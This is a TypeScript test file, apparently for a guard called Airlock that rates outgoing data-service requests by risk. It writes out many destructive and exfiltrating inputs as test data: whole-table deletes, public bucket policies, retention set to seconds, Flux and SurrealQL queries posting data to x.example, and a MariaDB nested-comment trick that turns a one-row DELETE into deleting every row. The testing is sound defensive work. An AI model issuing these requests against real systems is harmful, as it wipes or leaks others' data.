  const statement = (headers: Array<[string, string]>, sql = 'SELECT * FROM orders') => decide({ url: `https://${SQL_HOST}/v1/statement`, headers: [['Content-Type', 'text/plain'], ...headers], body: sql });
  for (const h of [['X-Trino-Role', 'system=ROLE{admin}'], ['x-trino-role', 'hive=ALL'], ['X-Presto-Role', 'system=ROLE{admin}'], ['X-Trino-Role', 'system=NONE,hive=ROLE{etl}']] as Array<[string, string]>) {
    t.equal((await statement([h])).decision.approval?.risk, 'critical', `${h[0]}: ${h[1]}`);
  }
  // Controls: no role, or none.
  t.equal((await statement([])).decision.approval?.risk, 'medium', 'control: no role header');
  t.equal((await statement([['X-Trino-Role', 'system=NONE']])).decision.approval?.risk, 'medium', 'control: NONE');
});

t.test('twenty-ninth pass: data services whose destructive operations are not SQL statements are read in their own language', async (t) => {
  // Each was a plain medium write (or held high as an unread body) on a host no module owns, while
  // its SQL twin is critical: SurrealQL's `DELETE user` (every record; no SQL grammar reads it),
  // `REMOVE TABLE`, `DEFINE USER … ROLES OWNER`, its RPC and key API; a Realtime Database tree
  // replaced or deleted (`PUT /.json`, `?x-http-method-override=DELETE`); an S3 lifecycle rule that
  // expires every object, a bucket policy or ACL, versioning suspended; GCS's `Delete` lifecycle;
  // InfluxDB's `_measurement` predicate over all time, `time < now()`, a bucket's retention, a Flux
  // script posting the data out; DynamoDB's Time to Live; pg_graphql on a self-hosted host;
  // Meilisearch's and Typesense's filter deletes every document meets, truncation, swaps and keys;
  // Elasticsearch's retention (ILM, ISM, data stream lifecycle), snapshot deletes and its guard off.
  const h = `https://${SQL_HOST}`;
  const json = (method: string, url: string, o: unknown, headers: Array<[string, string]> = []) => ({ method, url, headers: [['Content-Type', 'application/json'], ...headers] as Array<[string, string]>, body: JSON.stringify(o) });
  const text = (url: string, body: string, headers: Array<[string, string]> = []) => ({ method: 'POST', url, headers: [['Content-Type', 'text/plain'], ...headers] as Array<[string, string]>, body });
  const xml = (url: string, body: string) => ({ method: 'PUT', url, headers: [['Content-Type', 'application/xml']] as Array<[string, string]>, body });
  const dynamo = (op: string, o: unknown) => json('POST', `${h}/`, o, [['X-Amz-Target', `DynamoDB_20120810.${op}`]]);
  const lifecycle = (filter: string, exp = '<Expiration><Days>1</Days></Expiration>') => `<?xml version="1.0"?><LifecycleConfiguration xmlns="http://s3.amazonaws.com/doc/2006-03-01/"><Rule><ID>r</ID>${filter}<Status>Enabled</Status>${exp}</Rule></LifecycleConfiguration>`;
  const azurePolicy = (prefixMatch: string[] | undefined) => json('PUT', `${h}/subscriptions/s/resourceGroups/g/providers/Microsoft.Storage/storageAccounts/acct/managementPolicies/default?api-version=2023-01-01`,
    { properties: { policy: { rules: [{ enabled: true, name: 'r', type: 'Lifecycle', definition: { actions: { baseBlob: { delete: { daysAfterModificationGreaterThan: 0 } } }, filters: { blobTypes: ['blockBlob'], ...(prefixMatch ? { prefixMatch } : {}) } } }] } } });
  const surreal = fc.constantFrom('DELETE user;', 'delete FROM user', 'DELETE ONLY user RETURN NONE', 'DELETE user WHERE true', 'DELETE user WHERE email != NONE', 'DELETE user:..', 'DELETE user:tobie, post',
    'REMOVE TABLE user', 'remove table if exists user', 'REMOVE DATABASE app', 'REMOVE FIELD email ON TABLE user', 'DEFINE USER eve ON ROOT PASSWORD \'x\' ROLES OWNER', 'DEFINE TABLE user PERMISSIONS FULL',
    'UPDATE user SET role = \'admin\'', 'UPSERT user MERGE {role: \'admin\'}', 'UPDATE user:1 SET x = (DELETE user)', 'SELECT http::post(\'https://x.example\', (SELECT * FROM user)) FROM ONLY 1',
    '-- a note; with a semicolon\nDELETE \u27e8user\u27e9', 'DELETE user:tobie; # x\nREMOVE TABLE post', 'DEFINE EVENT e ON user WHEN true THEN { DELETE post }');
  const attacks = fc.oneof(
    fc.tuple(surreal, fc.constantFrom<Array<[string, string]>>([['surreal-ns', 'app'], ['surreal-db', 'app']], [['NS', 'app'], ['DB', 'app']], [])).map(([q, hs]) => text(`http://${SQL_HOST}:8000/sql`, q, hs)),
    surreal.map((q) => json('POST', `http://${SQL_HOST}:8000/rpc`, { id: 1, method: 'query', params: [q] })),
    fc.constantFrom(
      json('POST', `http://${SQL_HOST}:8000/rpc`, { id: 1, method: 'delete', params: ['user'] }), json('POST', `http://${SQL_HOST}:8000/rpc`, { id: 1, method: 'merge', params: ['user', { role: 'admin' }] }),
      { method: 'DELETE', url: `http://${SQL_HOST}:8000/key/user` },
      json('PUT', `${h}/.json`, { a: 1 }), { method: 'DELETE', url: `${h}/.json` }, json('PATCH', `${h}/.json`, { users: null }), json('POST', `${h}/.json?x-http-method-override=DELETE`, {}),
      { method: 'DELETE', url: `${h}/users.json?ns=demo` }, json('PUT', `${h}/users.json?ns=demo-default-rtdb`, {}), json('POST', `${h}/users.json?ns=demo&x-http-method-override=DELETE`, null),
      xml(`${h}/bucket?lifecycle`, lifecycle('<Filter></Filter>')), xml(`${h}/bucket?lifecycle`, lifecycle('<Filter><Prefix></Prefix></Filter>')), xml(`${h}/bucket?lifecycle`, lifecycle('<Prefix/>')),
      xml(`${h}/bucket?lifecycle`, lifecycle('<Filter><!-- <Prefix>tmp/</Prefix> --></Filter>')), xml(`${h}/bucket?lifecycle`, lifecycle('<Filter/>', '<NoncurrentVersionExpiration><NoncurrentDays>1</NoncurrentDays></NoncurrentVersionExpiration>')),
      json('PUT', `${h}/bucket?policy`, { Statement: [{ Effect: 'Allow', Principal: '*', Action: 's3:*', Resource: 'arn:aws:s3:::bucket/*' }] }), { method: 'PUT', url: `${h}/bucket?acl`, headers: [['x-amz-acl', 'public-read-write']] as Array<[string, string]> },
      xml(`${h}/bucket?versioning`, '<VersioningConfiguration><Status>Suspended</Status></VersioningConfiguration>'),
      json('PATCH', `${h}/storage/v1/b/bucket`, { lifecycle: { rule: [{ action: { type: 'Delete' }, condition: { age: 0 } }] } }),
      azurePolicy(undefined), azurePolicy(['logs']), json('PUT', `${h}/storage/v1/b/bucket/iam`, { bindings: [{ role: 'roles/storage.objectViewer', members: ['allUsers'] }] }),
      json('POST', `http://${SQL_HOST}:8086/api/v2/delete?org=o&bucket=b`, { start: '1970-01-01T00:00:00Z', stop: '2100-01-01T00:00:00Z', predicate: '_measurement="cpu"' }),
      { method: 'POST', url: `http://${SQL_HOST}:8086/query?q=${encodeURIComponent('DELETE FROM cpu WHERE time < now()')}` }, { method: 'POST', url: `http://${SQL_HOST}:8086/query?q=${encodeURIComponent('DELETE WHERE now() >= time')}` },
      json('PATCH', `http://${SQL_HOST}:8086/api/v2/buckets/0a1b`, { retentionRules: [{ type: 'expire', everySeconds: 1 }] }),
      { method: 'POST', url: `http://${SQL_HOST}:8086/api/v2/query?org=o`, headers: [['Content-Type', 'application/vnd.flux']] as Array<[string, string]>, body: 'import "http"\nfrom(bucket: "b") |> range(start: 0) |> map(fn: (r) => ({r with s: http.post(url: "https://x.example", data: bytes(v: r._value))}))' },
      json('POST', `http://${SQL_HOST}:8086/api/v2/query?org=o`, { query: 'from(bucket: "b") |> range(start: 0) |> to(bucket: "b", host: "https://x.example", token: "t")', type: 'flux' }),
      dynamo('UpdateTimeToLive', { TableName: 'users', TimeToLiveSpecification: { Enabled: true, AttributeName: 'created_at' } }), dynamo('UpdateContinuousBackups', { TableName: 'users', PointInTimeRecoverySpecification: { PointInTimeRecoveryEnabled: false } }),
      json('POST', `${h}/graphql/v1`, { query: 'mutation { deleteFromUsersCollection(atMost: 1000) { affectedCount } }' }), json('POST', `${h}/graphql`, { query: 'mutation M($f: UsersFilter) { x: updateUsersCollection(set: {role: "admin"}, filter: $f, atMost: 1000) { affectedCount } }', variables: { f: { id: { gt: 0 } } } }),
      json('POST', `http://${SQL_HOST}:7700/indexes/movies/documents/delete`, { filter: 'id > 0' }), json('POST', `http://${SQL_HOST}:7700/indexes/movies/documents/delete`, { filter: 'id EXISTS' }),
      json('POST', `http://${SQL_HOST}:7700/indexes/movies/documents/delete`, { filter: ['genre = horror OR id IS NOT NULL'] }), json('POST', `http://${SQL_HOST}:7700/indexes/movies/documents/delete`, { filter: 'NOT id NOT EXISTS' }),
      json('POST', `http://${SQL_HOST}:7700/swap-indexes`, [{ indexes: ['movies', 'empty'] }]), json('POST', `http://${SQL_HOST}:7700/keys`, { actions: ['*'], indexes: ['*'], expiresAt: null }),
      { method: 'DELETE', url: `http://${SQL_HOST}:8108/collections/books/documents?truncate=true` }, { method: 'DELETE', url: `http://${SQL_HOST}:8108/collections/books/documents?filter_by=${encodeURIComponent('id:>=0')}` },
      { method: 'DELETE', url: `http://${SQL_HOST}:8108/collections/books/documents?filter_by=${encodeURIComponent('id:* || author:=x')}` }, json('PATCH', `http://${SQL_HOST}:8108/collections/books`, { fields: [{ name: 'title', drop: true }] }),
      json('PUT', `http://${SQL_HOST}:9200/_ilm/policy/logs`, { policy: { phases: { delete: { min_age: '0ms', actions: { delete: {} } } } } }), json('PUT', `http://${SQL_HOST}:9200/_data_stream/logs/_lifecycle`, { data_retention: '1s' }),
      json('PUT', `http://${SQL_HOST}:9200/_plugins/_ism/policies/p`, { policy: { states: [{ name: 'd', actions: [{ delete: {} }] }] } }), { method: 'DELETE', url: `http://${SQL_HOST}:9200/_snapshot/repo/nightly` },
      json('PUT', `http://${SQL_HOST}:9200/_cluster/settings`, { persistent: { action: { destructive_requires_name: false } } }),
      json('POST', `http://${SQL_HOST}:8093/query/service`, { statement: 'DELETE FROM users WHERE META().id IS NOT MISSING' }), json('POST', `http://${SQL_HOST}:8093/query/service`, { statement: 'UPDATE `users` SET role = "admin" WHERE type IS VALUED' }),
      json('POST', `http://${SQL_HOST}:8093/query/service`, { statement: 'DROP COLLECTION app.inventory.users' }), json('POST', `http://${SQL_HOST}:8093/query/service`, { statement: 'MERGE INTO users USING empty ON KEY empty.k WHEN MATCHED THEN DELETE' }),
      { method: 'GET', url: `http://${SQL_HOST}:8093/query/service?statement=${encodeURIComponent('DELETE FROM users WHERE email IS NOT MISSING')}` }, { method: 'POST', url: `http://${SQL_HOST}:8091/pools/default/buckets/users/controller/doFlush` },
      { method: 'POST', url: `http://${SQL_HOST}:3100/loki/api/v1/delete?query=${encodeURIComponent('{job=~".+"}')}&start=0` }, json('POST', `${h}/v1/projects/p/databases/(default):exportDocuments`, { outputUriPrefix: 'gs://x-example' }),
      json('PATCH', `${h}/v1/projects/p/databases/(default)`, { deleteProtectionState: 'DELETE_PROTECTION_DISABLED' }),
      { method: 'DELETE', url: `${h}/dbs/app/colls/users` }, { method: 'DELETE', url: `http://${SQL_HOST}:8080/v1/schema/Article` },
      json('DELETE', `http://${SQL_HOST}:8080/v1/batch/objects`, { match: { class: 'Article', where: { operator: 'Like', path: ['id'], valueText: '*' } } }),
      json('DELETE', `http://${SQL_HOST}:8080/v1/batch/objects`, { match: { class: 'Article', where: { operator: 'Not', operands: [{ operator: 'Equal', path: ['id'], valueText: 'x' }] } } }),
      json('POST', `http://${SQL_HOST}:19530/v2/vectordb/collections/drop`, { collectionName: 'users' }), json('POST', `http://${SQL_HOST}:19530/v2/vectordb/entities/delete`, { collectionName: 'users', filter: 'id > 0' }),
      json('POST', `http://${SQL_HOST}:6333/collections/users/points/delete`, { filter: { must_not: [{ has_id: [999999] }] } }), json('POST', `http://${SQL_HOST}:6333/collections/users/points/delete`, { filter: { min_should: { conditions: [{ key: 'a', match: { value: 1 } }], min_count: 0 } } }),
    ),
  );
  await fc.assert(fc.asyncProperty(attacks, async (r: { method?: string; url: string; headers?: Array<[string, string]>; body?: string }) => {
    const { decision } = await decide(r);
    if (decision.approval?.risk !== 'critical') throw new Error(`${r.method} ${r.url} ${r.body ?? ''}: ${decision.action} ${decision.rule}`);
  }), { numRuns: 40, ...seed });
  // Controls: one record, a narrow filter, a prefix, a day's window, a cut-off, a read, a write into this server stay medium or allowed.
  const controls: Array<{ method?: string; url: string; headers?: Array<[string, string]>; body?: string }> = [
    text(`http://${SQL_HOST}:8000/sql`, 'DELETE user:tobie;'), text(`http://${SQL_HOST}:8000/sql`, 'DELETE user WHERE age < 18', [['surreal-ns', 'app']]), text(`http://${SQL_HOST}:8000/sql`, 'UPDATE user:tobie SET name = \'x\'; CREATE post SET a = 1', [['surreal-ns', 'app']]),
    text(`http://${SQL_HOST}:8000/sql`, 'SELECT * FROM user WHERE age > 18', [['surreal-ns', 'app']]), json('POST', `http://${SQL_HOST}:8000/rpc`, { id: 1, method: 'delete', params: ['user:tobie'] }), { method: 'DELETE', url: `http://${SQL_HOST}:8000/key/user/tobie` },
    json('PATCH', `${h}/.json`, { 'users/u1/name': 'x', 'posts/p1': null }), { method: 'DELETE', url: `${h}/users/u1.json?ns=demo` }, json('PUT', `${h}/settings.json`, { a: 1 }),
    xml(`${h}/bucket?lifecycle`, lifecycle('<Filter><Prefix>tmp/</Prefix></Filter>')), xml(`${h}/bucket?lifecycle`, lifecycle('<Filter/>', '<AbortIncompleteMultipartUpload><DaysAfterInitiation>7</DaysAfterInitiation></AbortIncompleteMultipartUpload>')),
    { method: 'POST', url: `${h}/bucket?delete`, headers: [['Content-Type', 'application/xml']] as Array<[string, string]>, body: '<Delete><Object><Key>a.txt</Key></Object></Delete>' }, { method: 'PUT', url: `${h}/bucket/a.txt`, body: 'x' },
    json('POST', `http://${SQL_HOST}:8086/api/v2/delete?org=o&bucket=b`, { start: '1970-01-01T00:00:00Z', stop: '2100-01-01T00:00:00Z', predicate: '_measurement="cpu" AND host="a"' }),
    json('POST', `http://${SQL_HOST}:8086/api/v2/delete?org=o&bucket=b`, { start: '2024-01-01T00:00:00Z', stop: '2024-01-02T00:00:00Z', predicate: '_measurement="cpu"' }),
    { method: 'POST', url: `http://${SQL_HOST}:8086/query?q=${encodeURIComponent('DELETE FROM cpu WHERE time < now() - 30d')}` }, json('PATCH', `http://${SQL_HOST}:8086/api/v2/buckets/0a1b`, { retentionRules: [{ type: 'expire', everySeconds: 0 }] }),
    json('POST', `http://${SQL_HOST}:8086/api/v2/query?org=o`, { query: 'from(bucket: "b") |> range(start: -1h) |> to(bucket: "b2")', type: 'flux' }),
    dynamo('UpdateTimeToLive', { TableName: 'users', TimeToLiveSpecification: { Enabled: false, AttributeName: 'expires_at' } }),
    json('POST', `${h}/graphql/v1`, { query: 'mutation { deleteFromUsersCollection(filter: {id: {eq: 5}}) { affectedCount } }' }),
    json('POST', `http://${SQL_HOST}:7700/indexes/movies/documents/delete`, { filter: 'genre = horror AND year 1990 TO 2000' }), { method: 'DELETE', url: `http://${SQL_HOST}:8108/collections/books/documents?filter_by=${encodeURIComponent('author:=x && year:[1990..2000]')}` },
    json('POST', `http://${SQL_HOST}:7700/indexes/movies/search`, { q: 'drop', filter: 'id > 0' }),
    json('POST', `http://${SQL_HOST}:8093/query/service`, { statement: 'DELETE FROM users WHERE email = "a@b.example"' }), json('POST', `http://${SQL_HOST}:8093/query/service`, { statement: 'UPSERT INTO users (KEY, VALUE) VALUES ("k", {"a": 1})' }),
    json('POST', `http://${SQL_HOST}:8093/query/service`, { statement: 'SELECT * FROM users USE KEYS "u1"' }),
    json('DELETE', `http://${SQL_HOST}:8080/v1/batch/objects`, { match: { class: 'Article', where: { operator: 'Equal', path: ['title'], valueText: 'x' } } }), azurePolicy(['logs/tmp']),
    json('POST', `http://${SQL_HOST}:19530/v2/vectordb/entities/delete`, { collectionName: 'users', filter: 'id in [1, 2]' }), json('POST', `http://${SQL_HOST}:6333/collections/users/points/delete`, { filter: { must: [{ has_id: [7] }] } }), { method: 'POST', url: `http://${SQL_HOST}:3100/loki/api/v1/delete?query=${encodeURIComponent('{app="web"} |= "token"')}&start=0` }, json('PUT', `http://${SQL_HOST}:9200/_ilm/policy/logs`, { policy: { phases: { hot: { actions: { rollover: { max_age: '1d' } } } } } }),
  ];
  for (const r of controls) {
    const { decision } = await decide(r);
    t.ok(decision.action === 'allow' || decision.approval?.risk === 'medium', `control: ${r.method} ${r.url} ${r.body ?? ''} (${decision.action} ${decision.approval?.risk ?? ''})`);
  }
  // Trino's Hive connector: a session property that makes each later INSERT replace the partitions it writes, by SET SESSION or a header.
  const trino = (headers: Array<[string, string]>, sql: string) => decide(text(`${h}/v1/statement`, sql, headers));
  for (const [hs, sql] of [[[], "SET SESSION hive.insert_existing_partitions_behavior = 'OVERWRITE'"], [[['X-Trino-Session', 'hive.insert_existing_partitions_behavior=OVERWRITE']], 'INSERT INTO hive.web.events SELECT * FROM hive.web.staging'],
    [[['X-Presto-Session', 'query_max_run_time=1h,lake.insert_existing_partitions_behavior=%4Fverwrite']], 'INSERT INTO lake.web.events VALUES (1)']] as Array<[Array<[string, string]>, string]>) {
    t.equal((await trino(hs, sql)).decision.approval?.risk, 'critical', `Trino ${JSON.stringify(hs)} ${sql}`);
  }
  for (const [hs, sql] of [[[['X-Trino-Session', 'query_max_run_time=1h']], 'SELECT 1'], [[['X-Trino-Session', 'hive.insert_existing_partitions_behavior=APPEND']], 'INSERT INTO hive.web.events VALUES (1)']] as Array<[Array<[string, string]>, string]>) {
    t.equal((await trino(hs, sql)).decision.approval?.risk, 'medium', `control: Trino ${JSON.stringify(hs)} ${sql}`);
  }
  // TimescaleDB's and pg_partman's retention on PostgreSQL endpoints: every chunk older than now, or a retention from then on.
  for (const [url, sql] of [[NEON, "SELECT drop_chunks('conditions', older_than => now())"], [SUPABASE, "SELECT public.add_retention_policy('conditions', INTERVAL '1 day')"], [GENERIC, "SELECT partman.drop_partition_time('public.events', '1 day')"]]) {
    t.equal((await decide({ url: url!, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: sql }) })).decision.approval?.risk, 'critical', `${url!.slice(8, 30)} ${sql}`);
  }
  t.equal((await decide({ url: NEON, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: "SELECT show_chunks('conditions')" }) })).decision.approval?.risk ?? 'allow', 'medium', 'control: show_chunks (a function nobody proves read-only)');
});

t.test('twenty-ninth pass: MariaDB runs an executable comment opened inside another, and one */ closes both', async (t) => {
  // `DELETE FROM users WHERE id = 1 /*!50000 AND 1 /*!50000 OR 1 */` deleted every row of a real
  // MariaDB 10.11 (checked by hand, with `/*M!`, bare `/*!`, and ` -- */` after for PostgreSQL's
  // nested comments), while every reading Airlock made took the inner one for a plain comment: a
  // narrow medium write on an endpoint of unknown dialect.
  const marker = fc.constantFrom('/*!50000', '/*M!100100', '/*!', '/*M!', '/*!100000');
  await fc.assert(fc.asyncProperty(marker, marker, fc.constantFrom('OR 1', 'OR TRUE', 'OR id > 0', 'OR id = id'), fc.constantFrom('', ' -- */'), fc.constantFrom('DELETE FROM users', "UPDATE users SET role = 'admin'"), fc.boolean(), async (outer, inner, hidden, tail, head, get) => {
    const sql = `${head} WHERE id = 1 ${outer} AND 1 ${inner} ${hidden} */${tail}`;
    const r = get ? { method: 'GET', url: `${GENERIC}?sql=${encodeURIComponent(sql)}` } : { url: GENERIC, headers: [['Content-Type', 'application/json']] as Array<[string, string]>, body: JSON.stringify({ sql }) };
    const { decision } = await decide(r);
    if (decision.approval?.risk !== 'critical') throw new Error(`${sql}: ${decision.action} ${decision.rule}`);
  }), { numRuns: 20, ...seed });
  // Controls: one executable comment, and a plain comment inside one, name one row (MariaDB deleted one).
  for (const sql of ['DELETE FROM users WHERE id = 1 /*!50000 AND 1 */', 'DELETE FROM users WHERE id = 1 /*!50000 AND 1 /* OR 1 */ */', 'DELETE FROM users WHERE id = 1 /*M! AND email = \'a\' */']) {
    t.equal((await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql }) })).decision.approval?.risk, 'medium', `control: ${sql}`);
  }
});
